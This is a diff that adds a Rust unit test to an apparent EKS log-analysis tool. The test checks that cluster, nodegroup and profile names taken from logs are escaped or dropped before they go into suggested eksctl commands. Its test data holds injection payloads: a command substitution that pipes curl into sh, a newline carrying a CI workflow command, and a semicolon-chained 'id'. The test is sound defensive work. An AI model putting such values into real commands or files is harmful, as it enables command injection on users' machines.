@@ -306,3 +306,34 @@ fn a_summary_names_the_region_when_the_run_knows_it() {
         "the EKS cluster does not exist"
     );
 }
+
+#[test]
+fn names_are_data_quoted_in_commands_and_dropped_when_aws_would_refuse_them() {
+    // B9: a name a log gives that no cluster can have is not used.
+    let mut a = Analyzer::new();
+    a.feed_text(b"Error: failed to create cluster \"prod$(curl -s x|sh)\"\n");
+    let advice = a.advice(&Context::default());
+    let all: String = advice.iter().map(|a| a.advice.clone()).collect();
+    assert!(!all.contains("$(curl"), "{all}");
+    assert!(all.contains("--name=<cluster>"), "{all}");
+    // B19: the run's own names are quoted in commands and escaped in prose.
+    let ctx = Context {
+        cluster: Some("c".into()),
+        region: Some("eu-west-1".into()),
+        nodegroup: Some("ng\n::add-mask::x".into()),
+        profile: Some("dev;id".into()),
+    };
+    let none = BTreeMap::new();
+    let names = fill::Names {
+        captures: &none,
+        context: &ctx,
+        log: &none,
+    };
+    assert_eq!(
+        fill::fill(
+            "`eksctl delete nodegroup --name={nodegroup}{--profile}`, then {nodegroup}[[ `{nodegroup}`]]",
+            &names
+        ),
+        "`eksctl delete nodegroup --name=$'ng\\n::add-mask::x' --profile 'dev;id'`, then ng\\n::add-mask::x `$'ng\\n::add-mask::x'`"
+    );
+}
